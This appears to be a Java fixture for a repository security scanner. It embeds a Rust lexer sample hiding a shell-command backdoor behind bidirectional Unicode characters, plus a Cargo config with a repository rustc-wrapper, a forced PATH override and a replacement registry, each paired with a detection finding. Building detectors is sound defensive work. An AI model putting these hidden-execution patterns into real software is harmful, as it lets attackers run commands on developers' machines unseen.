package dev.lazaret.viewer.gallery;

import dev.lazaret.analysis.catalogue.Effect;
import dev.lazaret.analysis.catalogue.Family;
import dev.lazaret.analysis.catalogue.Severity;
import dev.lazaret.analysis.catalogue.Trigger;
import dev.lazaret.analysis.finding.Finding;
import dev.lazaret.analysis.finding.Location;
import dev.lazaret.analysis.repository.RepoPath;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** An invented repository with every feature. */
public final class Example {
    private Example() {}

    public static final String LEXER = """
            /// Returns true when `tok` may start a directive.
            fn starts_directive(tok: &Token<'_>) -> bool {
                matches!(tok.kind, Kind::Hash | Kind::At)
            }

            #[derive(Debug, Clone)]
            impl<'a> Lexer<'a> {
                /// Expands `@exec` for internal callers only.
                pub fn expand(&mut self, tok: Token<'a>, caller: &str) -> Result<Token<'a>> {
                    if !starts_directive(&tok) {
                        return Ok(tok);
                    }
                    // Everyone else gets the plain text.
                    if caller != "system\u202E \u2066// internal callers only\u2069 \u2066" {
                        return self.run_directive(tok);
                    }
                    self.skip_directive(tok)
                }

                fn run_directive(&mut self, tok: Token<'a>) -> Result<Token<'a>> {
                    let cmd = tok.text.trim_start_matches("@exec ");
                    let out = Command::new("sh").arg("-c").arg(cmd).output()?;
                    self.push_text(out.stdout, 42_u8);
                    Ok(Token::text(tok.span))
                }
            }
            """;

    public static final String CONFIG = """
            # Local build settings.
            [build]
            jobs = 4
            rustc-wrapper = "tools/cc-cache.sh"
            incremental = true

            [env]
            # Needed for the native tables.
            PATH = { value = "tools", relative = true, force = true }
            PARSER_TABLES = "crates/parser-sys/tables"

            [source.crates-io]
            replace-with = "mirror"

            [source.mirror]
            registry = "sparse+https://crates.example.net/index/"

            [target.x86_64-unknown-linux-gnu]
            linker = "clang"

            [alias]
            lint = "clippy --all-targets -- -D warnings"
            """;

    public static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    public static Finding finding(
            String id, Severity severity, Trigger trigger, Effect effect, String path, int line, String title) {
        return new Finding(
                new Finding.RuleLabel(id, Family.ofId(id).orElse(Family.OWN), title),
                new Finding.Assessment(severity, trigger, effect),
                new Location(RepoPath.of(path), line, line == 0 ? 0 : 1),
                "evidence of " + id,
                (id + path + line).replaceAll("[^a-z0-9]", ""));
    }

    public static List<Finding> findings() {
        Effect executes = Effect.EXECUTES;
        return List.of(
                finding(
                        "AGT-MCP-SERVER",
                        Severity.CRITICAL,
                        Trigger.OPEN,
                        executes,
                        ".mcp.json",
                        4,
                        "Starts a program for a coding agent"),
                finding(
                        "EDT-VSCODE-TASK-ONOPEN",
                        Severity.CRITICAL,
                        Trigger.OPEN,
                        executes,
                        ".vscode/tasks.json",
                        9,
                        "Starts a shell task when the folder is opened"),
                finding(
                        "EDT-VIM-LOCAL",
                        Severity.HIGH,
                        Trigger.OPEN,
                        executes,
                        ".nvim.lua",
                        0,
                        "Editor settings that are a program"),
                finding(
                        "ENV-DIRENV",
                        Severity.HIGH,
                        Trigger.ENTER,
                        executes,
                        ".envrc",
                        1,
                        "A shell script that direnv runs"),
                finding(
                        "GIT-HOOKS-PATH",
                        Severity.CRITICAL,
                        Trigger.GIT,
                        executes,
                        ".git/config",
                        11,
                        "Git hooks folder points into the repository"),
                finding(
                        "GIT-ATTR-FILTER",
                        Severity.MEDIUM,
                        Trigger.GIT,
                        executes,
                        ".gitattributes",
                        2,
                        "A filter is named for files"),
                finding(
                        "CFG-RUSTC-WRAPPER",
                        Severity.CRITICAL,
                        Trigger.CARGO,
                        executes,
                        ".cargo/config.toml",
                        4,
                        "Cargo starts a repository script in front of rustc"),
                finding(
                        "CFG-ENV",
                        Severity.CRITICAL,
                        Trigger.CARGO,
                        executes,
                        ".cargo/config.toml",
                        9,
                        "Cargo configuration sets PATH"),
                finding(
                        "CFG-ENV",
                        Severity.LOW,
                        Trigger.CARGO,
                        executes,
                        ".cargo/config.toml",
                        10,
                        "Cargo configuration sets a variable"),
                finding(
                        "TC-PATH",
                        Severity.CRITICAL,
                        Trigger.CARGO,
                        executes,
                        "rust-toolchain.toml",
                        2,
                        "The toolchain is a folder of this repository"),
                finding(
                        "CFG-SOURCE-REPLACE",
                        Severity.HIGH,
                        Trigger.FETCH,
                        Effect.REDIRECTS,
                        ".cargo/config.toml",
                        13,
                        "Crates come from another place"),
                finding(
                        "CFG-SOURCE-REGISTRY",
                        Severity.HIGH,
                        Trigger.FETCH,
                        Effect.REDIRECTS,
                        ".cargo/config.toml",
                        16,
                        "A registry that is not crates.io"),
                finding(
                        "MAN-BUILDRS-IMPLICIT",
                        Severity.MEDIUM,
                        Trigger.CHECK,
                        executes,
                        "build.rs",
                        0,
                        "A build script that no manifest names"),
                finding(
                        "SRC-BUILD-PROCESS",
                        Severity.HIGH,
                        Trigger.CHECK,
                        executes,
                        "build.rs",
                        14,
                        "A build script starts a process"),
                finding(
                        "MAN-PROC-MACRO",
                        Severity.MEDIUM,
                        Trigger.CHECK,
                        executes,
                        "derive/Cargo.toml",
                        6,
                        "A procedural macro crate"),
                finding(
                        "MAN-DEP-BUILD",
                        Severity.INFO,
                        Trigger.CHECK,
                        executes,
                        "Cargo.toml",
                        22,
                        "A build dependency"),
                finding(
                        "CFG-LINKER",
                        Severity.MEDIUM,
                        Trigger.BUILD,
                        executes,
                        ".cargo/config.toml",
                        19,
                        "A linker is named"),
                finding(
                        "SRC-PROCESS",
                        Severity.MEDIUM,
                        Trigger.RUN,
                        executes,
                        "src/lexer.rs",
                        22,
                        "The program starts a process"),
                finding(
                        "TOOL-JUST",
                        Severity.MEDIUM,
                        Trigger.OTHER,
                        executes,
                        "justfile",
                        1,
                        "Recipes of a task runner"),
                finding(
                        "SRC-BIDI",
                        Severity.CRITICAL,
                        Trigger.OPEN,
                        Effect.HIDES,
                        "src/lexer.rs",
                        14,
                        "Direction characters change how this line reads"),
                finding(
                        "SRC-LINT-OFF",
                        Severity.MEDIUM,
                        Trigger.CHECK,
                        Effect.HIDES,
                        "src/lib.rs",
                        3,
                        "A lint that would refuse hidden text is off"),
                finding(
                        "BIN-FIXTURE",
                        Severity.INFO,
                        Trigger.TEST,
                        Effect.INFORMS,
                        "tests/data.bin",
                        0,
                        "A binary file beside tests"));
    }
}
